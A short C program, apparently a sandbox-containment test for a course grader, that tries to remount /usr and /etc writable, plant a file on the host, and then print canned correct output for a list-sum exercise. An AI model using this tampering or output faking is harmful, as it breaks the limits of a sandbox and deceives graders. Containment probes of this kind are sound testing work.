/* Trampa: como root en la caja, vuelve a montar /usr con escritura y deja un archivo en el
 * sistema del profesor; si lo consigue, copia la salida buena. */
#include <stdio.h>
#include <sys/mount.h>
#include <unistd.h>

int main(void) {
    alarm(20);
    mount("none", "/usr", "none", MS_REMOUNT | MS_BIND, NULL);
    mount("none", "/etc", "none", MS_REMOUNT | MS_BIND, NULL);
    FILE *plantado = fopen("/usr/local/include/trampa-de-la-caja.h", "w");
    if (plantado == NULL)
        plantado = fopen("/etc/trampa-de-la-caja", "w");
    if (plantado == NULL)
        return 1;
    fputs("/* escrito por una entrega */\n", plantado);
    fclose(plantado);
    fputs("\nSuma de los elementos de una lista\n==================================\n\nLos elementos sumados son:  1 2 3 4 5 6 7 8 9 10\n\nLa suma es 55\n\n", stdout);
    return 0;
}
